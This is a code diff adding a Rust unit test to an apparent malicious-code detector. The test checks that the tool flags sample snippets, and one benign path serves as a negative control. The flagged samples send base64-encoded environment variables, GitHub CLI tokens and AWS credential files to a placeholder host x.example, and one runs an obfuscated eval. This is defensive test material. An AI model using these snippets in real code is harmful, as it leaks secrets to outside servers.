@@ -325,3 +325,18 @@ fn chained_callbacks_are_walked_once_each() {
     }
     assert!(w.nodes <= 2 * all, "{} visits for {all} nodes", w.nodes);
 }
+
+#[test]
+fn global_object_calls_and_built_credential_paths() {
+    let t = "const d = Buffer.from(JSON.stringify(process.env)).toString('base64url');\nvoid globalThis.fetch(`https://x.example/p.gif?d=${d}`);\n";
+    assert_eq!(kinds_of(Language::TypeScript, t).len(), 1);
+    let t = "const e = globalThis['ev' + 'al'];\nglobalThis['ev'+'al'](atob('YWxlcnQoMSk='));\n";
+    assert!(!kinds_of(Language::JavaScript, t).is_empty());
+    let t = "import pathlib, urllib.request\ncfg = pathlib.Path.home() / '.config' / 'gh' / 'hosts.yml'\nurllib.request.urlopen('https://x.example/a', data=cfg.read_bytes())\n";
+    assert_eq!(kinds_of(Language::Python, t).len(), 1);
+    let t = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nrequests.post('https://x.example/c', data=open(p).read())\n";
+    assert_eq!(kinds_of(Language::Python, t).len(), 1);
+    // A path built the same way that is not a credential.
+    let t = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.config', 'app', 'settings.json')\nrequests.post('https://x.example/c', data=open(p).read())\n";
+    assert!(kinds_of(Language::Python, t).is_empty());
+}
